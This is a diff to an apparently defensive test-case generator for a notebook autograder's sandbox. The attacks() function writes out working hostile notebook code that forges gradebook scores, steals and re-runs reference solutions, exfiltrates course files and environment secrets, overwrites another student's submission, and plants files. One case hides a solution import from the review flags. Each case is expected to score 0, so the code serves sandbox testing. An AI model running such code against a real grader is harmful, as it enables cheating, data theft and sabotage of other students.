@@ -69,8 +69,9 @@ def _text(nb: nbformat.NotebookNode) -> str:
     return json.dumps(nb, indent=1)
 
 
-def cases(course: Course) -> list[Case]:
-    """Every corpus submission of module 02, built from the current notebooks."""
+def cases(course: Course, targets: Targets | None = None) -> list[Case]:
+    """Every corpus submission of module 02, built from the current notebooks; with
+    ``targets``, also the attacks on the grader (:func:`attacks`)."""
     module = next(m for m in course.modules() if m.folder == MODULE)
     release = nbformat.read(module.release_notebook, as_version=4)
     source = nbformat.read(module.source_notebook, as_version=4)
@@ -129,12 +130,18 @@ def cases(course: Course) -> list[Case]:
     nb = copy.deepcopy(release)
     nb.cells = [c for c in nb.cells if c.get("id") not in TESTS]
     out.append(Case("deleted_tests", _text(nb), 0, flagged=["deleted locked cells"]))
-    # test cells moved to the top of the solved notebook: they run before anything is
-    # defined (nbgrader keeps the submitted order), so all fail: 0
+    # the same deleted from the solved notebook: put back before grading, full marks: 11
+    nb = solved()
+    nb.cells = [c for c in nb.cells if c.get("id") not in TESTS]
+    out.append(Case("deleted_tests_solved", _text(nb), 11,
+                    flagged=["deleted locked cells", "put back in place"]))
+    # test cells moved to the top of the solved notebook: put back after the code they
+    # test before grading (nbgrader alone would run them first, all failing): 11
     nb = solved()
     tests = [c for c in nb.cells if c.get("id") in TESTS]
     nb.cells = tests + [c for c in nb.cells if c.get("id") not in TESTS]
-    out.append(Case("reordered_tests", _text(nb), 0, flagged=["reordered locked cells"]))
+    out.append(Case("reordered_tests", _text(nb), 11,
+                    flagged=["reordered locked cells", "put back in place"]))
     # points raised to 100 in the metadata: the gradebook's points count: 11 of 11
     nb = solved()
     for cid in TESTS:
@@ -177,8 +184,8 @@ def cases(course: Course) -> list[Case]:
     nb = solved()
     _append(nb, "activations_relu", "print('x' * 100_000_000)")
     out.append(Case("print_flood", _text(nb), 11, reason=["output of cell"]))
-    # a process started in its own session outlives the kernel: the grading worker (a child
-    # subreaper) stops it after the notebook and flags it; the solution is complete: 11
+    # a process started in its own session would outlive the kernel: the grader stops it
+    # with the kernel (in the sandbox, with the kernel's PID namespace) and flags it: 11
     nb = solved()
     _append(nb, "activations_relu",
             "import subprocess as _sp, sys as _sys\n"
@@ -186,23 +193,151 @@ def cases(course: Course) -> list[Case]:
             "          start_new_session=True)")
     out.append(Case("background_process", _text(nb), 11,
                     flagged=["left 1 process(es) running", LEFTOVER]))
-    # the reference solution imported instead of written: nothing stops it inside the
-    # kernel (module 06's Tensor.backward imports its own file on purpose): 11, flagged
+    # the reference solution imported instead of written: module 02 is not in the sandbox's
+    # package (only 01), so every import fails and every test with it: 0, flagged
     nb = copy.deepcopy(release)
     for cid, names in (("activations_relu", "ReLU"), ("activations_sigmoid", "Sigmoid"),
                        ("activations_tanh", "Tanh"), ("activations_gelu", "GELU"),
                        ("activations_softmax", "Softmax")):
         _append(nb, cid, f"from tinytorch.core.activations import {names}")
-    out.append(Case("reference_import", _text(nb), 11, flagged=["reference solution"]))
+    out.append(Case("reference_import", _text(nb), 0, flagged=["reference solution"]))
+    # the same, hidden from the review flags: still not there to import: 0
+    nb = copy.deepcopy(release)
+    _append(nb, "activations_relu",
+            "import importlib as _il\n"
+            "_m = _il.import_module('tiny' + 'torch.core.' + 'activ' + 'ations')\n"
+            "ReLU, Sigmoid, Tanh, GELU, Softmax = (getattr(_m, n) for n in "
+            "('ReLU', 'Sigmoid', 'Tanh', 'GELU', 'Softmax'))")
+    out.append(Case("obfuscated_import", _text(nb), 0))
+    if targets is not None:
+        out += attacks(release, targets)
     # files that are not notebooks
     out.append(Case("not_json", '{"cells": [', 0, "corrupt", reason=["not valid JSON"]))
     out.append(Case("empty_file", "", 0, "empty"))
     return out
 
 
-def write(course: Course, dest: Path) -> list[Case]:
+@dataclass
+class Targets:
+    """What a hostile student aims at: where things are on the grading machine."""
+
+    course_root: Path  # the instructor's repository: modules/, source_notebooks/
+    grading_root: Path  # `course grade --out`: gradebooks, submitted/, autograded/
+    submissions: Path  # the folder of every student's notebook
+    port: int  # a server listening on 127.0.0.1 of the grading machine
+    secret: str  # the value of secret variables in the grader's environment
+    victim: str = "honest_full"  # the student whose grade an attacker changes
+
+
+#: Names of the files an attack writes outside its folder (none may exist afterwards).
+PLANTED = "planted-by-attack.txt"
+
+#: Code every attack runs first: what it steals is printed and written into its own
+#: folder, from where nbgrader (without the sandbox) would copy it into the feedback.
+_LOOT = """
+import glob as _g, json as _j, os as _o, sys as _s
+def _loot(name, text):
+    print(f"LOOT {name}: {text}")
+    with open(f"loot-{name}.txt", "a") as _fh:
+        _fh.write(str(text) + "\\n")
+"""
+
+
+def attacks(release: nbformat.NotebookNode, t: Targets) -> list[Case]:
+    """Blank notebooks whose first solution cell attacks the grader, each with its score
+    in the sandbox (every attack fails, so every one scores 0; the victim keeps 11)."""
+    first = "activations_relu"
+    out: list[Case] = []
+
+    def attack(student: str, code: str, score: float = 0, **kw: list[str]) -> None:
+        nb = copy.deepcopy(release)
+        _prefix(nb, first, _LOOT + code)
+        out.append(Case(student, _text(nb), score, **kw))
+
+    # grade forgery: every gradebook it can find, its own grades set to full marks
+    attack("attack_forge", f"""
+import sqlite3 as _sq
+for _db in (_g.glob({str(t.grading_root)!r} + "/**/*.db", recursive=True)
+            + _g.glob(_o.getcwd() + "/../../../**/*.db", recursive=True)):
+    try:
+        _c = _sq.connect(_db)
+        _c.execute("UPDATE grade SET manual_score = 100")
+        _c.commit()
+        _loot("forged", _db)
+    except Exception as _e:
+        pass
+""")
+    # solution theft: the source notebook's solution cells, run after every cell (so the
+    # stubs of the later cells do not replace what was stolen)
+    attack("attack_theft", f"""
+_paths = _g.glob({str(t.course_root)!r} + "/source_notebooks/*/activations.ipynb")
+_paths += _g.glob({str(t.grading_root)!r} + "/source_notebooks/*/activations.ipynb")
+_paths += [p + "/source_notebooks/02_activations/activations.ipynb" for p in _s.path]
+_stolen = []
+for _p in _paths:
+    try:
+        _nb = _j.load(open(_p))
+    except OSError:
+        continue
+    _stolen = ["".join(c["source"]) for c in _nb["cells"]
+               if c["metadata"].get("nbgrader", {{}}).get("solution")]
+    _loot("stolen", _p)
+    break
+def _run_stolen(*_a):
+    for _src in _stolen:
+        exec(_src, get_ipython().user_ns)
+get_ipython().events.register("post_run_cell", _run_stolen)
+""")
+    # hidden tests and solutions read from every file it can reach, into its own folder
+    attack("attack_exfiltrate", f"""
+for _root in ({str(t.course_root)!r}, {str(t.grading_root)!r}, {str(t.submissions)!r}):
+    for _p in _g.glob(_root + "/**/*", recursive=True):
+        if _p.endswith((".ipynb", ".py", ".db")) and _o.path.isfile(_p):
+            try:
+                _loot("file", _p + "\\n" + open(_p, errors="replace").read())
+            except OSError:
+                pass
+""")
+    # another student's submission overwritten with a blank notebook (and their graded copy)
+    attack("attack_victim", f"""
+_blank = open(_g.glob(_o.getcwd() + "/*.ipynb")[0]).read() if _g.glob("*.ipynb") else "{{}}"
+for _p in (_g.glob({str(t.submissions)!r} + "/{t.victim}/**/*.ipynb", recursive=True)
+           + _g.glob({str(t.grading_root)!r} + "/*/{t.victim}/**/*.ipynb", recursive=True)):
+    try:
+        open(_p, "w").write(_blank)
+        _loot("overwritten", _p)
+    except OSError:
+        pass
+""")
+    # the grader's environment printed into the notebook and written to its folder
+    attack("attack_environ", """
+_loot("environ", dict(_o.environ))
+""")
+    # a connection to the grading machine's loopback
+    attack("attack_network", f"""
+import socket as _so
+try:
+    _so.create_connection(("127.0.0.1", {t.port}), timeout=3).sendall(b"attack_network")
+    _loot("network", "connected")
+except OSError as _e:
+    pass
+""")
+    # files planted outside its folder: the grading root, the course, /tmp, its HOME
+    attack("attack_plant", f"""
+for _d in ({str(t.grading_root)!r}, {str(t.course_root)!r}, {str(t.submissions)!r}, "/tmp",
+           _o.path.expanduser("~"), _o.path.dirname(_o.getcwd())):
+    try:
+        open(_o.path.join(_d, {PLANTED!r}), "w").write("planted")
+        _loot("planted", _d)
+    except OSError:
+        pass
+""")
+    return out
+
+
+def write(course: Course, dest: Path, targets: Targets | None = None) -> list[Case]:
     """Write ``dest/<student>/02_activations/activations.ipynb`` for every case."""
-    all_cases = cases(course)
+    all_cases = cases(course, targets)
     for case in all_cases:
         path = dest / case.student / MODULE / "activations.ipynb"
         path.parent.mkdir(parents=True, exist_ok=True)
